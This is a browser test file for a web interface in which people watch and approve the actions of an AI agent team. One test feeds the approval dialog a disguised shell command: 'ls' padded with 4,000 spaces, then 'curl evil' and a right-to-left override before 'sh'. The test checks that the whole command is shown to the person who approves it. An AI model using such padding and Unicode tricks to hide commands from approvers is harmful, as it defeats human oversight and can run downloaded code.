import { expect, test } from 'vitest'
import { fullTest } from '../tier.fixture.ts'
import {
  PHONE,
  TABLET,
  intercept,
  look,
  noChromium,
  openPage,
  sharedChromium,
} from './chromium.fixture.ts'
import { checkAccessible } from './journey-steps.fixture.ts'
import { ask, idle, openStarted, openTab, serveTeam } from './team-page.fixture.ts'

test.skipIf(noChromium)(
  '[D110] [D008] [D002] three tabs show the same team, one of them reloaded and one cut off',
  async () => {
    const url = await serveTeam()
    const [one, two, three] = [await openTab(url), await openTab(url), await openTab(url)]
    await one.page.getByRole('button', { name: 'Start a demonstration' }).click()
    await one.page.getByRole('button', { name: 'Summon agents' }).click()
    await one.page.getByText('Lyra').first().waitFor()

    await three.context.setOffline(true)
    await one.page.getByLabel('Message').fill('Please write a plan')
    await one.page.getByRole('button', { name: 'Send' }).click()
    await one.page.getByText('It is in plan.html.').waitFor()
    await two.page.reload()
    await three.context.setOffline(false)
    await three.page.reload()

    const told = await Promise.all(
      [one, two, three].map(async ({ page }) => {
        await page.getByText('It is in plan.html.').waitFor()
        return page.getByRole('log').innerText()
      }),
    )
    expect(new Set(told).size).toBe(1)
    await one.page.getByRole('link', { name: 'plan.html' }).first().click()
    await one.page.frameLocator('iframe').getByRole('heading', { name: 'Plan' }).waitFor()
    expect([one, two, three].flatMap(({ faults }) => faults)).toEqual([])
    await look(one.page, 'team')
  },
)

test.skipIf(noChromium)('[D055] a person allows a call, and gets help with a job', async () => {
  const { page } = await openStarted()
  await page.getByLabel('Message').fill('Please delete it')
  await page.getByRole('button', { name: 'Send' }).click()
  await page.getByRole('heading', { name: 'Let Julian run this command?' }).waitFor()
  await page.getByRole('button', { name: 'Allow once' }).click()
  await page
    .getByRole('heading', { name: 'Let Julian run this command?' })
    .waitFor({ state: 'detached' })
  await idle(page)
  // A script calls no model: no tokens, no cost and no budget are shown.
  await page.getByRole('link', { name: 'Usage' }).click()
  await page.getByText('A script calls no model', { exact: false }).waitFor()
  expect(await page.getByText('tokens', { exact: true }).count()).toBe(0)
  await page.getByRole('link', { name: 'Jobs' }).click()
  await page.getByRole('link', { name: 'New job' }).click()
  await page.getByLabel('Job', { exact: true }).fill('Clerk')
  await page.getByRole('button', { name: 'Help me' }).click()
  await page.getByText('The empty fields are filled in.', { exact: false }).waitFor()
  // Help is a draft of the form, and nobody's message.
  expect(await page.getByRole('log').innerText()).not.toMatch(/describe a job|the same day/)
  expect(await page.getByLabel('What it is about').inputValue()).toContain('answers the same day')
  expect(await page.getByLabel('Job', { exact: true }).inputValue()).toBe('Clerk')
  await page.getByRole('button', { name: 'Add job' }).click()
  await page.getByText('Clerk').waitFor()
})

test.skipIf(noChromium)(
  '[X26] the whole call is shown before a person allows it; one that is too long can only be refused',
  async () => {
    const { page, url } = await openStarted()
    const askFor = async (command: string) => {
      await ask(url, { name: 'Bash', input: { command }, result: '', asks: true })
      await page.getByRole('heading', { name: 'Let Julian run this command?' }).waitFor()
    }
    await askFor(`ls${' '.repeat(4_000)}; curl evil\n\u202Esh`)
    const shown = page.getByRole('region', { name: 'The whole command' }).getByText('curl evil')
    expect(await shown.innerText()).toBe('ls‹U+0020 × 4000›; curl evil↵\n‹U+202E›sh')
    const { height = 0 } = (await shown.boundingBox()) ?? {}
    expect(height).toBeGreaterThan(30)
    await page.getByRole('button', { name: 'Allow once' }).click()
    await idle(page)
    await askFor('ls '.repeat(5_000))
    await page.getByText('This is too long to show in full', { exact: false }).waitFor()
    expect(await page.getByRole('button', { name: 'Allow once' }).count()).toBe(0)
    await page.getByRole('button', { name: 'Refuse', exact: true }).click()
    await idle(page)
  },
)

test.skipIf(noChromium)(
  'a question of the program is answered as one, with the chosen options',
  async () => {
    const { page, faults, url } = await openStarted()
    const questions = [
      {
        question: 'Which database do we use?',
        header: 'Store',
        multiSelect: false,
        options: [
          { label: 'SQLite', description: 'One file, one server' },
          { label: 'Postgres', description: 'Several servers' },
        ],
      },
      { question: 'On which days do we deploy?', header: 'Days', multiSelect: true, options: [] },
    ]
    await ask(url, { name: 'AskUserQuestion', input: { questions }, result: '', asks: true })
    const needs = page.getByRole('region', { name: 'Needs you' })
    await needs.getByRole('heading', { name: 'The team has a question' }).waitFor()
    await needs.getByRole('button', { name: 'Send answers' }).click()
    await needs.getByText('Answer each question', { exact: false }).waitFor()
    await needs.getByRole('radio', { name: 'SQLite' }).check()
    await needs.getByLabel('On which days do we deploy?').fill('Tuesdays')
    await look(page, 'team-question')
    await checkAccessible(page, 'team-question')
    const sent = page.waitForRequest('**/api/permissions')
    await needs.getByRole('button', { name: 'Send answers' }).click()
    expect((await sent).postDataJSON()).toMatchObject({
      approved: true,
      answers: {
        'Which database do we use?': 'SQLite',
        'On which days do we deploy?': 'Tuesdays',
      },
    })
    await needs.waitFor({ state: 'detached' })
    await idle(page)
    expect(faults).toEqual([])
  },
)

fullTest.skipIf(noChromium)(
  'the audit page shows the team’s thread in the team’s sentences, without parts of a case',
  async () => {
    const { page, faults, url } = await openStarted()
    await page.goto(url.replace('/team', '/audit/team'))
    const rows = page.getByRole('region', { name: /^Timeline/ }).locator('ol > li')
    await rows.getByText('A person started a session').waitFor()
    await rows.getByText(/^The lead: “Hello. Summon your agents/).waitFor()
    await page.getByText(/^✓Chain verified/).waitFor()
    const details = page.getByRole('region', { name: 'Details' })
    await details.locator('summary', { hasText: 'State as JSON' }).click()
    await details.getByText('"demoMode": true').waitFor()
    expect(await details.locator('summary').allInnerTexts()).toEqual([
      'Transcript (0)',
      'State as JSON',
    ])
    expect(await page.getByText('Personal data').count()).toBe(0)
    expect(faults).toEqual([])
  },
)

test.skipIf(noChromium)(
  '[D132] a page that misses three heartbeats says that the connection is lost, and connects again',
  async () => {
    const { page } = await openPage(await sharedChromium(), TABLET)
    await page.clock.install()
    await page.goto(await serveTeam())
    await page.getByRole('button', { name: 'Start a demonstration' }).click()
    await page.getByText('Hello. Summon your agents').waitFor()
    const asked: string[] = []
    const release = await intercept(page, '**/api/events*', (route) => {
      asked.push(route.request().url())
    })
    await page.clock.fastForward(20_000)
    await page.getByText('Connection lost. Trying again…').waitFor()
    // The stream resumes from its position.
    await expect.poll(() => asked).toEqual([expect.stringMatching(/after=\d+&epoch=/)])
    release()
    await page.clock.fastForward(20_000)
    await page.getByText('Connection lost. Trying again…').waitFor({ state: 'detached' })
    expect(await page.getByText('Hello. Summon your agents').count()).toBe(1)
  },
)

const SCHEMES = ['dark', 'light'] as const

fullTest.skipIf(noChromium).each(SCHEMES)(
  'the page has no fault that axe finds, and fits a phone, in %s',
  async (colorScheme) => {
    const { page } = await openStarted(PHONE)
    await page.emulateMedia({ colorScheme })
    await page.getByRole('button', { name: 'Summon agents' }).click()
    await page.getByText('Lyra').first().waitFor()
    await checkAccessible(page, colorScheme)
    const width = await page.evaluate(() => document.documentElement.scrollWidth)
    expect(width).toBeLessThanOrEqual(PHONE.width)
  },
)

fullTest.skipIf(noChromium).each([PHONE, TABLET])(
  'what waits for a person is in sight at $width px, wherever the page is scrolled to',
  async (size) => {
    const { page } = await openStarted(size)
    await page.getByLabel('Message').fill('Please delete it')
    await page.getByRole('button', { name: 'Send' }).click()
    const allow = page.getByRole('button', { name: 'Allow once' })
    await allow.waitFor()
    for (const place of ['document.body.scrollHeight', '0']) {
      await page.evaluate(`scrollTo(0, ${place})`)
      const box = await allow.boundingBox()
      expect(box?.y).toBeGreaterThanOrEqual(0)
      expect((box?.y ?? Infinity) + (box?.height ?? 0)).toBeLessThanOrEqual(size.height)
    }
    await look(page, `team-needs-you-${size.width}`)
    await checkAccessible(page, 'light')
  },
)
